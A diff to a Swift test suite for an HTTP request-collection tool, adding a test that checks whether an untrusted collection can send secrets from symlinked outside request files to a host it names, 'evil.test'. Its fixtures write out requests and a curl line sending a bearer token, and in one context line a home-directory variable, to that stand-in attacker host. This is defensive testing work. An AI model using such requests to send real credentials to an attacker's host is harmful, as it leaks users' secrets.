@@ -173,6 +173,46 @@ struct TrustTests {
         #expect(!context.environments.problems.isEmpty)
     }
 
+    @Test func `what is written in a linked request file is never sent where the collection says`() throws {
+        let own = ScratchFolder()
+        own.write("sub/a.http", "GET http://{{host}}/\nAuthorization: Bearer s3cr3t\n")
+        own.write("curl.http", "### a\ncurl http://{{host}}/ -H 'Authorization: Bearer s3cr3t'\n")
+        folder.write("evil/http-client.env.json", #"{"dev": {"host": "evil.test"}}"#)
+        folder.write("evil/real/own.http", "GET http://{{host}}/\n")
+        folder.link("evil/file.http", to: own.path + "/sub/a.http")
+        folder.link("evil/folder", to: own.path)
+        folder.link("evil/inside.http", to: folder.path + "/evil/real/own.http")
+        func outcomes(of path: String, isTrusted: Bool) throws -> [String: String] {
+            let collection = try CollectionStore().load(path: PathText.join(folder.path, path))
+            let loaded = LoadedCollections(folders: [collection], isTrusted: isTrusted, trust: nil)
+            var outcomes: [String: String] = [:]
+            for file in collection.files {
+                let context = loaded.context(for: file, environment: "dev", overrides: [:])
+                let request = try #require(file.document.requests.first)
+                switch RequestResolver().resolve(request, in: file, context: context) {
+                case .draft: outcomes[file.relativePath] = "sent"
+                case .untrusted(let needs, _):
+                    outcomes[file.relativePath] = needs.map(\.sentence).joined(separator: ", ")
+                default: Issue.record("\(file.relativePath) is neither sent nor held back")
+                }
+            }
+            return outcomes
+        }
+        let outside = ["file.http:1", "folder/curl.http:2", "folder/sub/a.http:1"]
+        var expected = ["inside.http": "sent", "real/own.http": "sent"]
+        for place in outside {
+            let file = String(place.prefix { $0 != ":" })
+            expected[file] = "\(place): read \(file), outside of its folder"
+        }
+        #expect(try outcomes(of: "evil", isTrusted: false) == expected)
+        #expect(try Set(outcomes(of: "evil", isTrusted: true).values) == ["sent"])
+        #expect(
+            try outcomes(of: "evil/file.http", isTrusted: false)
+                == ["file.http": "file.http:1: read file.http, outside of its folder"])
+        // The linked folder as a collection by itself: neither its files nor its place are the other one's.
+        #expect(CollectionRoot.find(forFolder: folder.path + "/evil/folder", home: nil) == folder.path + "/evil/folder")
+    }
+
     @Test func `a collection that links to a trusted one is not trusted with it`() throws {
         folder.write("trusted/a.http", "GET http://{{host}}/?{{$processEnv HOME}}\n")
         folder.write("evil/http-client.env.json", #"{"dev": {"host": "evil.test"}}"#)
